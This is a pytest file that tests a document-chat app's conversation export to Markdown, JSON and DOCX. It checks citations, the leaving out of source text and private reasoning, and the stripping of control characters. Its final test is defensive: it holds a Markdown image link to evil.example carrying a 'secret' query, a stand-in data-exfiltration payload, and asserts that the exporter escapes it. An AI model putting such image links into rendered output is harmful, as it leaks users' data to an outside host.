"""Conversations as files: citations are in them, the documents' text is not."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from dataclasses import asdict
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from app import documents
from app.citations import Citation, PageSource, attribute
from app.errors import WrongUse
from app.export import FORMATS, export, harmless_markdown
from app.settings import Settings
from app.wiring import App
from storage import PageRow
from tests.app.cli_runner import is_one_error, unabridged

NOTE = "The zebrafish protocol number is 5512. It was signed by Mara Lindt.\n" + "\n".join(
    f"Nothing that anybody asks for stands in line {n}; secretfiller{n}." for n in range(60)
)
ANSWER = 'The note says: "The zebrafish protocol number is 5512." (page 9). <b>bold</b> Mara Lindt signed it.'


@pytest.fixture(scope="module")
def talked(starter_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[App, str, Path]]:
    folder = tmp_path_factory.mktemp("export")
    note = folder / "note.txt"
    note.write_text(NOTE)
    with App.open(Settings(data_dir=folder / "data", model=str(starter_model))) as app:
        conversation = app.library.create_conversation("Protocol: <5512> | [x](y)\u202e").id
        (added,) = documents.add_files(app, conversation, [note])
        assert added.document is not None
        rows = app.library.pages(added.document.id)
        pages = [PageSource(added.document.id, "note.txt", row.index, row.label, row.text) for row in rows]
        asked = app.library.add_message(conversation, "user", "Which number?\n# no heading")
        passage = {
            "document_id": added.document.id,
            "document": "note.txt",
            "page": 1,
            "label": "L1",
            "text": NOTE,
            "score": 1,
        }
        app.library.add_message(
            conversation, "assistant", ANSWER, "complete", question=asked.id, reading="whole",
            thinking="my secret plan", citations=[asdict(citation) for citation in attribute(ANSWER, pages)],
            passages=[passage], stats={"model": "demo"}, warnings=["Read in part."],
        )  # fmt: skip
        yield app, conversation, folder


def test_markdown(talked) -> None:
    app, conversation, _ = talked
    made = export(app, conversation, "md")
    text = made.data.decode()
    assert made.name == "Protocol 5512 x y.md"
    assert "> Which number?" in text
    assert "\n> \\# no heading" in text
    assert "(page 9). [1]" in text
    assert "1. ✓ note.txt:1: quote found; the answer said p. 9" in text
    assert "   > The zebrafish protocol number is 5512" in text
    assert "2. ↗ note.txt:1: found by the app" in text
    assert "*Note: Read in part.*" in text
    assert "\u202e" not in text


def test_json(talked) -> None:
    app, conversation, _ = talked
    whole = json.loads(export(app, conversation, "json").data)
    assert whole["documents"] == [{"name": "note.txt", "kind": "text", "pages": whole["documents"][0]["pages"]}]
    question, answer = whole["messages"]
    assert question["role"] == "user"
    first, second = answer["citations"]
    assert (first["status"], first["said"], first["found_by"], first["lines"]) == ("verified", "p. 9", "answer", [1, 1])
    assert (second["status"], second["said"], second["found_by"]) == ("attributed", "", "app")
    assert answer["text"][: first["places"][0]].endswith("(page 9).")


def test_docx(talked) -> None:
    from docx import Document

    app, conversation, _ = talked
    paragraphs = [p.text for p in Document(io.BytesIO(export(app, conversation, "docx").data)).paragraphs]
    assert any(p.startswith("[1] ✓ note.txt:1: quote found; the answer said p. 9") for p in paragraphs), paragraphs
    assert any("<b>bold</b>" in p for p in paragraphs)


@pytest.mark.parametrize("format", FORMATS)
def test_nothing_but_quotes_of_the_documents_is_in_it(talked, format: str) -> None:
    import zipfile

    app, conversation, folder = talked
    data = export(app, conversation, format).data
    if format == "docx":
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            data = b"".join(packed.read(name) for name in packed.namelist())
    for hidden in ("secretfiller", "my secret plan", str(folder)):
        assert hidden.encode() not in data


def test_what_is_not_there(talked) -> None:
    app, conversation, _ = talked
    with pytest.raises(WrongUse):
        export(app, conversation, "pdf")
    with pytest.raises(WrongUse):
        export(app, "nobody", "md")


def test_a_conversation_that_was_stored_by_an_older_version(talked) -> None:
    app, _, _ = talked
    old = app.library.create_conversation("old").id
    citation = {
        "document_id": "d",
        "document": "a.pdf",
        "page": 3,
        "label": "3",
        "quote": "Words",
        "status": "verified",
    }
    app.library.add_message(old, "assistant", "Words.", citations=[citation])
    assert "1. ✓ a.pdf, page 3: quote found" in export(app, old, "md").data.decode()


@pytest.mark.slow
def test_the_command(tmp_path: Path) -> None:
    empty = unabridged("export", data_dir=tmp_path / "empty")
    assert empty.returncode == 2
    assert is_one_error(empty.stderr)
    from storage import Library

    library = Library.open(tmp_path / "data")
    id = library.create_conversation("A talk").id
    library.add_message(id, "user", "Hello?")
    library.close()
    assert "> Hello?" in unabridged("export", data_dir=tmp_path / "data").stdout
    done = unabridged("export", id[:8], "-o", tmp_path / "talk.docx", data_dir=tmp_path / "data")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "talk.docx").read_bytes().startswith(b"PK")
    wrong = unabridged("export", "nobody", data_dir=tmp_path / "data")
    assert (wrong.returncode, is_one_error(wrong.stderr)) == (2, True)


@pytest.mark.parametrize("format", FORMATS)
def test_control_characters_of_names_and_labels_stop_no_export(talked, format: str) -> None:
    app, _, _ = talked
    conversation = app.library.create_conversation("Odd").id
    document = app.library.add_document("ab" * 32, "od\x0bd\u202e.txt", "text", "t", [PageRow(1, "a\x01", "x")], 1)
    app.library.attach(conversation, document.id)
    cited = Citation(document.id, document.name, 1, "a\x01", "x", "verified", said="p.\x02 9")
    app.library.add_message(
        conversation, "assistant", "An answer.", "complete", citations=[asdict(cited)], warnings=["od\x0bd"]
    )
    made = export(app, conversation, format).data
    if format != "docx":
        assert not any(f"\\u{ord(c):04x}" in made.decode() or c in made.decode() for c in "\x0b\x01\x02\u202e")


def test_markdown_of_an_answer_fetches_nothing_and_holds_no_html() -> None:
    answer = "See ![x](https://evil.example/?q=secret) <img src=x> 3 < 4\n\n```\n![kept] <b>\n```\n`<i>` and ![y][z]"
    safe = harmless_markdown(answer)
    assert safe.startswith("See !\\[x](https://evil.example/?q=secret) \\<img src=x> 3 < 4\n")
    assert safe.endswith("\n```\n![kept] <b>\n```\n`<i>` and !\\[y][z]")
    shown = MarkdownIt().render(safe)
    assert "<img" not in shown
    assert "<b>" not in shown
